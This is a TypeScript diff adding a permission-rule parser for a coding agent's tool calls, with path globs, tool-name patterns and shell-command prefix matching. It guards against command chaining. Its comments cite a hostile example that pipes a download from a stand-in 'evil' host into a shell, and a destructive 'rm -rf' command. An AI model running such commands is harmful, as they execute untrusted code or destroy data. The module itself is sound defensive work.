@@ -1,0 +1,131 @@
+import { homedir } from 'node:os';
+import { isAbsolute } from 'node:path';
+import picomatch from 'picomatch';
+import { ExecutorError, ExecutorErrorCode } from '../executor-error.js';
+
+/** What a rule does when it matches. */
+export type RuleBehavior = 'allow' | 'ask' | 'deny';
+
+/**
+ * A parsed permission rule, in the form people already write for coding agents:
+ * - `Read` — every call of the tool; `mcp__github__*` — `*` in a tool name matches any characters;
+ * - `Read(src/**)` — calls whose every path matches the glob. Relative globs are relative to the
+ *   workspace, `/abs/**` and `//abs/**` are absolute, `~/x` is in the home directory. `dir/**`
+ *   also covers `dir` itself;
+ * - `Bash(npm run test:*)` — for a tool without paths, the call's permission content (the part in
+ *   parentheses of its `permissionSignature`): `prefix:*` is a prefix, `*` a wildcard, anything
+ *   else exact.
+ */
+export interface PermissionRule {
+  readonly source: string;
+  readonly behavior: RuleBehavior;
+  readonly matchesToolName: (toolName: string) => boolean;
+  /** Absent for a whole-tool rule. */
+  readonly specifier: RuleSpecifier | undefined;
+}
+
+/** The part in parentheses, compiled both ways: as a path glob and as a content pattern. */
+export interface RuleSpecifier {
+  readonly text: string;
+  /** Tests an absolute, real path. */
+  readonly matchesPath: (absolutePath: string, workspaceRoot: string) => boolean;
+  /** Tests a call's permission content. */
+  readonly matchesContent: (content: string) => boolean;
+}
+
+const RULE_SYNTAX = /^([A-Za-z0-9_*.-]+)(?:\(([^]*)\))?$/;
+const ACCEPTED_FORMS =
+  '"Tool", "Tool(glob)" such as "Read(src/**)", "mcp__server__*", "Bash(npm run test:*)"';
+
+/** Parses one rule; the error names the rule, the list it came from, and the accepted forms. */
+export function parsePermissionRule(source: unknown, behavior: RuleBehavior): PermissionRule {
+  const trimmed = typeof source === 'string' ? source.trim() : '';
+  const match = RULE_SYNTAX.exec(trimmed);
+  if (match === null || (match[2] !== undefined && match[2].trim() === '')) {
+    throw new ExecutorError(
+      ExecutorErrorCode.InvalidPermissionRule,
+      `Invalid rule ${JSON.stringify(source)} in permissions.${behavior}; accepted forms: ${ACCEPTED_FORMS}.`,
+    );
+  }
+  const [, toolPattern = '', specifier] = match;
+  return {
+    source: trimmed,
+    behavior,
+    matchesToolName: compileNamePattern(toolPattern),
+    specifier: specifier === undefined ? undefined : compileSpecifier(specifier.trim()),
+  };
+}
+
+function compileNamePattern(pattern: string): (name: string) => boolean {
+  if (!pattern.includes('*')) return (name) => name === pattern;
+  const expression = new RegExp(`^${pattern.split('*').map(escapeRegExp).join('.*')}$`);
+  return (name) => expression.test(name);
+}
+
+function compileSpecifier(text: string): RuleSpecifier {
+  const anchor = globAnchor(text);
+  // dot: a rule on `secrets/**` must cover `secrets/.env` too.
+  const glob = picomatch(anchor.glob, { dot: true });
+  return {
+    text,
+    matchesPath(absolutePath, workspaceRoot) {
+      if (anchor.kind === 'absolute') return glob(absolutePath);
+      if (anchor.kind === 'home')
+        return glob(absolutePath.slice(homedir().length + 1)) && absolutePath.startsWith(`${homedir()}/`);
+      if (absolutePath === workspaceRoot) return glob('.');
+      if (!absolutePath.startsWith(`${workspaceRoot}/`)) return false;
+      return glob(absolutePath.slice(workspaceRoot.length + 1));
+    },
+    matchesContent: compileContentPattern(text),
+  };
+}
+
+/** Where a path glob is anchored: the workspace (relative), the file system root, or home. */
+function globAnchor(text: string): { kind: 'workspace' | 'absolute' | 'home'; glob: string } {
+  if (text.startsWith('~/')) return { kind: 'home', glob: text.slice(2) };
+  if (text.startsWith('//')) return { kind: 'absolute', glob: text.slice(1) };
+  if (isAbsolute(text)) return { kind: 'absolute', glob: text };
+  return { kind: 'workspace', glob: text.startsWith('./') ? text.slice(2) : text };
+}
+
+/**
+ * Content patterns. A shell-style prefix rule must not be widened by chaining: `npm run test:*`
+ * does not cover `npm run test; curl evil | sh`, so a prefix or wildcard rule matches only content
+ * without shell control operators. (Deny rules check each chained segment separately; see
+ * {@link contentSegments}.)
+ */
+function compileContentPattern(text: string): (content: string) => boolean {
+  if (text.endsWith(':*')) {
+    const prefix = text.slice(0, -2);
+    return (content) =>
+      !hasShellControl(content) &&
+      (content === prefix || content.startsWith(`${prefix} `) || content.startsWith(`${prefix}:`));
+  }
+  if (text.includes('*')) {
+    const expression = new RegExp(`^${text.split('*').map(escapeRegExp).join('[^]*')}$`);
+    return (content) => !hasShellControl(content) && expression.test(content);
+  }
+  return (content) => content === text;
+}
+
+const SHELL_CONTROL = /[;&|`\n\r<>]|\$\(/;
+
+function hasShellControl(content: string): boolean {
+  return SHELL_CONTROL.test(content);
+}
+
+/**
+ * The segments of a chained command (`a && b; c | d`), for deny and ask rules: a deny rule on
+ * `rm:*` must catch `ls; rm -rf x` as well as `rm -rf x`.
+ */
+export function contentSegments(content: string): string[] {
+  const segments = content
+    .split(/&&|\|\||[;&|\n\r]|\$\(|`|\)/)
+    .map((segment) => segment.trim())
+    .filter((segment) => segment !== '');
+  return segments.length === 0 ? [content] : [content, ...segments];
+}
+
+function escapeRegExp(text: string): string {
+  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+}
